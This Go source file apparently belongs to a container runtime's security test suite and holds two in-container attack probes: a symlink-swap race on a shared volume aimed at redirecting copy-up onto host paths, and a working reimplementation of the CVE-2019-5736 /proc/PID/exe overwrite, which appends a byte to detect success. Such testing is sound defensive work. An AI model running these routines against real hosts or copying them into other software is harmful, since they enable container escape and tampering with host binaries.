//go:build linux

package main

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// volswap is the second party of the volume copy-up race (issue #13 item
// 1): it shares a named volume with a container whose creation copies the
// image's files into it. Each directory that appears under dir is
// swapped for a symlink to target, a path of the HOST (the suite
// names it). If the runtime copies by path, as root, on the host, the
// rest of that directory's files follow the symlink and land on the host.
func volswap(dir, target string, d time.Duration) {
	emit(map[string]interface{}{"ready": true})
	deadline := time.Now().Add(d)
	swaps := 0
	for time.Now().Before(deadline) {
		ents, err := os.ReadDir(dir)
		if err != nil {
			continue
		}
		for _, e := range ents {
			if !e.IsDir() || strings.HasPrefix(e.Name(), ".moved-") {
				continue
			}
			// The symlink is made first, then swapped with the directory
			// in one step (renameat2 RENAME_EXCHANGE): the copy never
			// meets a missing path, so it carries on through the link.
			p, link := filepath.Join(dir, e.Name()), filepath.Join(dir, ".moved-"+e.Name())
			if err := os.Symlink(target, link); err != nil {
				continue
			}
			if err := unix.Renameat2(unix.AT_FDCWD, link, unix.AT_FDCWD, p, unix.RENAME_EXCHANGE); err == nil {
				swaps++
				emit(map[string]interface{}{"swapped": e.Name()})
			}
		}
	}
	emit(map[string]interface{}{"swaps": swaps})
}

// procexe is CVE-2019-5736 from inside: while `minirun exec` enters the
// container, a process of the host's minirun binary is briefly visible in
// the container's pid namespace. The attack opens its /proc/PID/exe for
// writing (ETXTBSY while it runs), and also keeps an O_PATH handle and
// reopens that for writing later, after the process has exec'd or exited
// (runc's exploit). A write that succeeds is the escape: the next
// invocation of minirun on the host would run the attacker's bytes. The
// write appends one byte, so the suite's hash of its binary shows it.
func procexe(rounds int) {
	emit(map[string]interface{}{"ready": true})
	self := strconv.Itoa(os.Getpid())
	own := map[string]bool{"/attack": true, "/bin/busybox": true}
	held := map[string]*os.File{} // pid -> O_PATH handle of its exe
	tries, foreign, opened, wrote := 0, 0, 0, 0
	var seen []string
	tryWrite := func(path, who string) {
		tries++
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err != nil {
			return
		}
		opened++
		emit(map[string]interface{}{"opened_for_write": who})
		if fi, err := f.Stat(); err == nil {
			if _, err := f.WriteAt([]byte{0}, fi.Size()); err == nil {
				wrote++
				emit(map[string]interface{}{"wrote": who})
			}
		}
		f.Close()
	}
	for r := 0; r < rounds; r++ {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid := e.Name()
			if pid[0] < '0' || pid[0] > '9' || pid == self {
				continue
			}
			exe := "/proc/" + pid + "/exe"
			link, err := os.Readlink(exe)
			if errors.Is(err, os.ErrNotExist) || own[link] {
				continue // gone, or one of the container's own programs
			}
			if err != nil {
				// A process the container may not even look at (not
				// dumpable: minirun's exec while it enters): still a
				// target, and the attempts below count.
				link = "(" + err.Error() + ")"
			}
			if _, ok := held[pid]; !ok {
				foreign++
				seen = append(seen, pid+"="+link)
				if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
					held[pid] = os.NewFile(uintptr(fd), exe)
				} else {
					held[pid] = nil
				}
			}
			tryWrite(exe, pid+" "+link)
		}
		// The handles of processes seen before: once they exec'd the
		// user's program or exited, ETXTBSY no longer protects the file.
		for pid, f := range held {
			if f != nil {
				tryWrite("/proc/self/fd/"+strconv.Itoa(int(f.Fd())), "held "+pid)
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	emit(map[string]interface{}{"tries": tries, "foreign": foreign, "opened": opened, "wrote": wrote, "seen": seen})
}
